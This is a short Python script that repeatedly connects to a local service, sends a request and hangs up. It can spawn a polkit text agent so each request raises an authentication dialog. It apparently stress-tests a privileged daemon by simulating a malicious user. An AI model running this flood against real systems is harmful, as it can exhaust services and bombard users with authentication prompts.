"""flood.py SECONDS GAP VERB [NAME [KEY=VALUE...]] - connect, ask, wait GAP, hang up, again and again, as a user who means ill.
With INTERACTIVE=yes he brings a polkit agent of his own, so that there is a dialog each time."""
import os
import pty
import subprocess
import sys
import threading
import time

from ask import connect, packet


def drain(fd):
    try:
        while os.read(fd, 65536):
            pass
    except OSError:
        pass


def agent():
    start = open("/proc/self/stat").read().rsplit(")", 1)[1].split()[19]
    ours, theirs = pty.openpty()
    ready, tell = os.pipe()
    os.set_inheritable(tell, True)
    child = subprocess.Popen(["setsid", "-c", "pkttyagent", "--notify-fd", str(tell), "--process", f"{os.getpid()},{start}"],
                             stdin=theirs, stdout=theirs, stderr=theirs, pass_fds=[tell])
    os.close(tell)
    os.read(ready, 1)
    threading.Thread(target=drain, args=(ours,), daemon=True).start()
    return child


def main():
    end, gap, question = time.time() + float(sys.argv[1]), float(sys.argv[2]), packet(*sys.argv[3:])
    child = agent() if "INTERACTIVE=yes" in sys.argv else None
    count = 0
    while time.time() < end:
        try:
            with connect() as sock:
                sock.send(question)
                time.sleep(gap)
            count += 1
        except OSError:
            time.sleep(0.01)
    if child:
        child.kill()
        child.wait()
    print(count, "hang-ups")


main()
